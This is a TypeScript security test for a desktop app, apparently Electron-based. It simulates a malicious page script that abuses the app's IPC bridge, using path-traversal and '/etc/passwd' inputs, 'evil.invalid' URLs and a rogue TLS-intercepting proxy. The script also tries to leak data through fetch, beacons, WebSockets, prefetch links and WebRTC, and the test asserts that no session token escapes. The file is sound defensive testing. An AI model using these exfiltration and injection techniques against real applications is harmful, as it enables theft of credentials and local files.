import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TLSSocket } from 'node:tls';
import keytar from 'keytar';
import { channels } from '../../src/contract/ipc/channels';
import { findProgram } from '../support/system-programs';
import { clickDecision, promptWindow } from '../support/prompt-window';
import { createIdentity, type Identity } from '../support/self-signed';
import { startTlsProxy } from '../support/tls-proxy';
import { expect, test } from './fixture';
import { newAccount } from './support/account';
import { reconnectTimeoutMs } from './support/connection';
import type { DesktopHost } from './support/desktop-host';
import { create, navigation, row, signInForm, signUpOnScreen } from './support/screens';
import { text } from './support/texts';

/** A proxy of an attacker. It terminates TLS with a certificate of its own and records every byte received. */
const startStranger = async (identity: Identity) => {
  const received: Buffer[] = [];
  const sockets = new Set<Socket>();
  let greetings = 0;
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => { socket.destroy(); });
    socket.once('data', (first: Buffer) => {
      received.push(first);
      if (!first.toString('latin1').startsWith('CONNECT ')) { socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}'); return; }
      socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
      greetings += 1;
      const secure = new TLSSocket(socket, { isServer: true, key: identity.key, cert: identity.cert });
      secure.on('error', () => { socket.destroy(); });
      secure.on('data', (part: Buffer) => {
        received.push(part);
        secure.end('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}');
      });
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    heard: () => Buffer.concat(received).toString('latin1'),
    greetings: () => greetings,
    async stop() {
      const closed = once(server, 'close');
      server.close();
      for (const socket of sockets) socket.destroy();
      await closed;
    },
  };
};

/** Counts incoming connections. */
const startListener = async () => {
  let comers = 0;
  const server = createServer((socket) => { comers += 1; socket.on('error', () => undefined); });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { port: (server.address() as AddressInfo).port, comers: () => comers, stop: () => { server.close(); } };
};

interface Hostile { readonly server: string; readonly fingerprint: string; readonly proxyPort: number; readonly secretPath: string; readonly names: readonly string[] }

/** An attacker's script in a page of the app: it can use everything in `window`, and knows the certificate of its own proxy. */
const attack = async ({ server, fingerprint, proxyPort, secretPath, names }: Hostile): Promise<Record<string, string>> => {
  const invoke = (window as unknown as { deckle: { invoke: Record<string, ((input?: unknown) => Promise<unknown>) | undefined> } }).deckle.invoke;
  const proxy = { mode: 'manual', host: '127.0.0.1', port: proxyPort, bypass: ['<-loopback>'] };
  const files = [
    { map: () => ({ filter: () => [secretPath] }) }, [secretPath], [{ path: secretPath }], [new File(['x'], secretPath)],
    Object.assign([], { map: () => ({ filter: () => [secretPath] }) }),
  ];
  const inputs: Record<string, readonly unknown[]> = {
    'api:call': ['auth.login', 'auth.loginByCode', 'auth.logout', 'auth.createTicket', 'auth.redeemTicket', 'auth.register', '__proto__', 'account.me'].map((name) => ({ name, input: { body: { url: server } } })),
    'session:sign-in': [{ account: 'a@b.cd', passwordDigest: 'a'.repeat(64) }], 'session:sign-in-by-code': [{ account: 'a@b.cd', code: '123456' }], 'session:sign-up': [{ account: 'a@b.cd', code: null, inviteGuid: null, name: 'a', passwordDigest: 'a'.repeat(64) }],
    'servers:choose': [{ address: 'https://evil.invalid' }, { address: server }], 'servers:trust': [{ server, fingerprint }], 'servers:prompt-trust': [{ address: server }, { address: 'https://evil.invalid' }],
    'servers:revoke-trust': [], 'network:set-proxy': [proxy, { mode: 'pac', url: `http://127.0.0.1:${proxyPort}/proxy.pac` }],
    'network:answer': [{ id: '1', login: { name: 'a', password: 'b' } }],
    'files:upload-dropped': [...files.map((each) => ({ files: each, names: ['x'], folder: 'Desktop' })), { drop: 't', proofs: [''], names: ['x'], folder: 'Desktop' }],
    'files:upload-chosen': [{ choice: secretPath, folder: 'Desktop', fileNames: [secretPath], folders: [] }],
    'files:challenge': [{ paths: [secretPath] }], 'files:upload-paths': files.map((each) => ({ files: each, folder: 'Desktop' })),
    'desktop-settings:set': [{ downloads: { folder: '/' } }], 'window:open-external': [{ url: `https://evil.invalid/?${document.title}` }, { url: 'mailto:a@evil.invalid' }],
    'links:open': [{ address: 'https://evil.invalid/' }], 'links:decide': [{ id: '1', agrees: true }], 'downloads:open-externally': [{ guid: 'x', name: '/etc/passwd' }],
    'downloads:drag-file-out': [{ guid: '../../x', name: '/etc/passwd' }], 'downloads:open': [{ id: '/etc/passwd' }], 'downloads:show-in-folder': [{ id: '/etc/passwd' }],
  };
  /** Calls that end the page, close its account or open a system dialog, which needs a person. */
  const apart = ['window:close', 'window:print', 'window:open-menu', 'windows:open', 'session:sign-out', 'accounts:sign-out', 'accounts:remove', 'accounts:add', 'accounts:switch', 'updates:restart',
    'files:choose-uploads', 'files:save', 'files:save-text', 'downloads:choose-folder', 'diagnostics:export', 'window:minimize', 'window:toggle-maximize'];
  const outcome: Record<string, string> = {};
  const within = (result: Promise<unknown>): Promise<unknown> => Promise.race([result, new Promise((resolve) => { setTimeout(() => { resolve('no answer'); }, 3000); })]);
  for (const name of [...names, 'servers:trust', 'network:answer', 'files:challenge', 'files:upload-paths'].filter((each) => !apart.includes(each))) {
    for (const input of inputs[name] ?? [undefined]) {
      try {
        outcome[name] = JSON.stringify(await within(invoke[name]?.(input) ?? Promise.resolve('no such channel'))) ?? '';
      } catch (error) {
        outcome[name] = String(error);
      }
    }
  }
  return outcome;
};

/** The channels of a page itself: requests, navigation, frames, DNS lookups, WebRTC. */
const escape = async ({ port, host }: { readonly port: number; readonly host: string }): Promise<{ readonly own: string; readonly gathered: string }> => {
  const url = `https://127.0.0.1:${port}/?leak`;
  const quietly = (run: () => unknown): void => { try { void Promise.resolve(run()).catch(() => undefined); } catch { /* Refused, as expected. */ } };
  quietly(() => fetch(url));
  quietly(() => navigator.sendBeacon(url, 'leak'));
  quietly(() => new WebSocket(url.replace('https', 'wss')));
  quietly(() => new EventSource(url));
  quietly(() => { new Image().src = url; });
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon', 'manifest', 'modulepreload']) quietly(() => document.head.append(Object.assign(document.createElement('link'), { rel, href: rel === 'dns-prefetch' ? `https://${host}/` : url })));
  quietly(() => window.open(url, '_blank', 'noopener'));
  const frame = document.body.appendChild(document.createElement('iframe'));
  const Rtc = (frame.contentWindow as unknown as { RTCPeerConnection?: typeof RTCPeerConnection } | null)?.RTCPeerConnection;
  let gathered = 'none';
  if (Rtc) {
    const connection = new Rtc({ iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'leak', credential: 'leak' }] });
    connection.createDataChannel('leak');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise<void>((resolve) => {
      const ends = (): void => { if (connection.iceGatheringState === 'complete') resolve(); };
      connection.addEventListener('icegatheringstatechange', ends);
      setTimeout(resolve, 8000);
      ends();
    });
    gathered = connection.iceGatheringState;
    connection.close();
  }
  frame.remove();
  return { own: typeof RTCPeerConnection, gathered };
};

test('a script in a page sends the token to no one, whatever it requests from the bridge', async ({ hosts, server }) => {
  if ('missing' in hosts) { test.skip(true, hosts.missing); return; }
  test.skip(findProgram('openssl') === null, 'openssl is not installed');
  const keychain = process.env['DECKLE_KEYCHAIN_UNAVAILABLE'];
  test.skip(keychain !== undefined, keychain);
  test.setTimeout(240_000);
  const folder = mkdtempSync(join(tmpdir(), 'deckle-attacked-'));
  const [own, strange] = [createIdentity(folder, 'own'), createIdentity(folder, 'strange')];
  const secretPath = join(folder, 'secret.txt');
  writeFileSync(secretPath, 'nobody but this computer has this');
  const front = await startTlsProxy(server.url, own);
  const stranger = await startStranger(strange);
  const listener = await startListener();
  const host = await hosts.create(front.url) as DesktopHost;
  const prompts = () => host.app().windows().filter((window) => window.url().startsWith('app://prompt'));
  try {
    const form = await host.open();
    await signInForm(form).waitFor();
    await form.getByRole('button', { name: text('network', 'certificateLook') }).click();
    await clickDecision(await promptWindow(host.app()), 'accept');
    const page = await host.withSessionChange(form, () => signUpOnScreen(form, newAccount()));
    await navigation(page).waitFor();
    await create(page, 'folder', 'Before');
    const token = (await keytar.findCredentials(host.keychainService)).map(({ password }) => password).join();
    expect(token).toMatch(/^[\w.~+/=-]{43,}$/);
    const opened = await host.app().evaluateHandle(({ shell }) => {
      const urls: string[] = [];
      shell.openExternal = (url) => { urls.push(url); return Promise.resolve(); };
      return urls;
    });
    const names = Object.keys(channels).filter((name) => channels[name as keyof typeof channels] === 'invoke');
    const hostile: Hostile = { server: front.url, fingerprint: strange.fingerprint, proxyPort: stranger.port, secretPath, names };
    const proxyNow = () => page.evaluate(() => window.deckle?.invoke['network:proxy']());

    await test.step('without a click nothing is requested, nothing changes and nothing is sent', async () => {
      // The activation of an earlier click has expired; the attacker does not wait.
      await page.evaluate(() => window.deckle?.invoke['network:sign-in']());
      const outcome = await page.evaluate(attack, hostile);
      for (const name of ['servers:choose', 'network:set-proxy', 'session:sign-in', 'session:sign-in-by-code', 'session:sign-up', 'window:open-external', 'links:decide', 'desktop-settings:set', 'downloads:open-externally']) {
        expect(JSON.parse(outcome[name] ?? 'null'), name).toMatchObject({ ok: false });
      }
      expect(prompts()).toEqual([]);
      expect(await proxyNow()).toMatchObject({ data: { proxy: { mode: 'system' } } });
      expect(JSON.stringify(outcome)).not.toContain(token);
    });
    await test.step('no file of this computer is uploaded by its path', async () => {
      const listed = await page.evaluate(() => window.deckle?.invoke['api:call']({ name: 'files.list', input: { query: { folder: 'Desktop' } } }));
      expect(JSON.stringify(listed)).toContain('Before');
      expect(JSON.stringify(listed)).not.toContain('secret.txt');
      // Chosen and dropped files are uploaded by the same function.
      await page.evaluate(() => { document.body.append(Object.assign(document.createElement('input'), { type: 'file', id: 'chosen' })); });
      await page.locator('#chosen').setInputFiles(secretPath);
      const chosen = await page.evaluate(() => window.deckle?.invoke['files:upload-dropped']({ files: [...document.querySelector<HTMLInputElement>('#chosen')?.files ?? []], names: ['secret.txt'], folder: 'Desktop' }));
      expect(chosen).toEqual({ ok: true, data: 1 });
      await expect(row(page, 'secret.txt')).toBeVisible();
    });
    await test.step('with a click the person gets a prompt, and declining changes nothing', async () => {
      await page.mouse.click(400, 20);
      const change = page.evaluate((port) => window.deckle?.invoke['network:set-proxy']({ mode: 'manual', host: '127.0.0.1', port, bypass: ['<-loopback>'] }), stranger.port);
      const prompt = await promptWindow(host.app());
      await expect(prompt.locator('button[name=decline]')).toBeFocused();
      expect(await prompt.evaluate(() => [typeof window.deckle, document.scripts.length])).toEqual(['undefined', 0]);
      await clickDecision(prompt, 'decline');
      expect(await change).toEqual({ ok: true, data: false });
      await page.mouse.click(400, 20);
      await page.evaluate(() => { window.open('https://evil.invalid/?leak', '_blank', 'noopener'); });
      await clickDecision(await promptWindow(host.app()), 'decline');
      expect(await opened.jsonValue()).toEqual([]);
      expect(await proxyNow()).toMatchObject({ data: { proxy: { mode: 'system' } } });
    });
    await test.step('by itself the page reaches no one', async () => {
      expect(await page.evaluate(escape, { port: listener.port, host: 'leak.invalid' })).toEqual({ own: 'undefined', gathered: expect.stringMatching(/none|complete|gathering/) as unknown });
      expect(listener.comers()).toBe(0);
      expect(page.url()).toMatch(/^app:\/\/deckle\//);
      expect(prompts()).toEqual([]);
    });
    expect(stranger.heard()).toBe('');
    await test.step('behind the stranger’s proxy the page cannot trust the proxy, so the proxy receives no token', async () => {
      await page.mouse.click(400, 20);
      const change = page.evaluate((port) => window.deckle?.invoke['network:set-proxy']({ mode: 'manual', host: '127.0.0.1', port, bypass: ['<-loopback>'] }), stranger.port);
      await clickDecision(await promptWindow(host.app()), 'accept');
      expect(await change).toEqual({ ok: true, data: true });
      await expect(page.getByText(text('network', 'certificateChanged'))).toBeVisible({ timeout: reconnectTimeoutMs });
      expect(stranger.greetings()).toBeGreaterThan(0);
      await page.evaluate(attack, hostile);
      for (const prompt of prompts()) await clickDecision(prompt, 'decline');
      await create(page, 'folder', 'Behind the stranger');
      await expect(row(page, 'Behind the stranger')).toBeVisible();
      expect(await page.evaluate(() => window.deckle?.invoke['network:problem']())).toMatchObject({ data: { kind: 'certificate', isChanged: true } });
      expect(stranger.heard()).not.toContain('authorization');
      expect(stranger.heard()).not.toContain(token);
    });
  } finally {
    await host.close();
    await stranger.stop();
    listener.stop();
    await front.stop();
    rmSync(folder, { recursive: true });
  }
});
